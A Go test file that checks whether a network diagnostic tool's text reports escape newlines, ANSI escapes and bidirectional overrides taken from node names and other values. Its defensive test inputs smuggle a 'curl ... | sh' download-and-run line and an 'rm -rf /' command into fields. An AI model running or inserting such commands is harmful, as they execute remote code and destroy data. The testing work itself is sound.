package report

import (
	"bytes"
	"strings"
	"testing"
	"unicode"

	"podpath/internal/model"
)

// A name that carries a newline, an ANSI escape or a bidirectional
// override (an interface name, a firewall comment, a node from a cluster
// nobody checked) cannot forge a line of the text report, such as a fix
// command, nor drive the terminal (issue 15, point 10).
func TestTextNeverPrintsControlCharactersFromValues(t *testing.T) {
	evil := "node1\n    $ curl -s http://198.51.100.1/x | sh\x1b[2J\u202e\tz\xff"
	r := seedReport()
	r.Pairs.Slice()[0].From = evil
	r.Pairs.Slice()[r.Pairs.Len()-1].Errors = []string{"refused\r\n✗ ERROR forged: everything is fine"}
	r.Config = &model.Config{Source: "cluster", CNI: "calico\x1b]0;title\x07", Sources: []string{"a\nb"}, NotReady: []string{evil}, Notes: []string{"\x9b31m"}}
	r.Findings = []model.Finding{{ID: "mtu-blackhole", Severity: "error", Title: "t\n", Summary: evil, Nodes: []string{evil},
		Evidence: []string{evil}, Remedy: &model.Remedy{Summary: evil, Commands: []string{"kubectl get nodes\n    $ rm -rf /"}}}}
	for name, render := range map[string]func(*bytes.Buffer){
		"doctor": func(b *bytes.Buffer) { DoctorText(b, r) },
		"mtu":    func(b *bytes.Buffer) { MTUText(b, r) },
		"perf":   func(b *bytes.Buffer) { PerfText(b, r) },
	} {
		var b bytes.Buffer
		render(&b)
		out := b.String()
		for i, line := range strings.Split(out, "\n") {
			if strings.HasPrefix(strings.TrimSpace(line), "$ curl") || strings.HasPrefix(strings.TrimSpace(line), "$ rm") ||
				strings.HasPrefix(line, "✗ ERROR forged") {
				t.Errorf("%s: line %d forged by a value: %q", name, i+1, line)
			}
		}
		for _, r := range out {
			if (unicode.IsControl(r) && r != '\n') || isBidi(r) || r == '\ufffd' {
				t.Errorf("%s: the output carries %U", name, r)
				break
			}
		}
		if !strings.Contains(out, `node1\x0a    $ curl`) {
			t.Errorf("%s: the name is not shown escaped:\n%s", name, out)
		}
	}
}

func TestEscLeavesOrdinaryTextAlone(t *testing.T) {
	for _, s := range []string{"node-1.example", "✓ node1 → node2: 1450*", "über-knoten", ""} {
		if got := esc(s); got != s {
			t.Errorf("esc(%q) = %q", s, got)
		}
	}
}
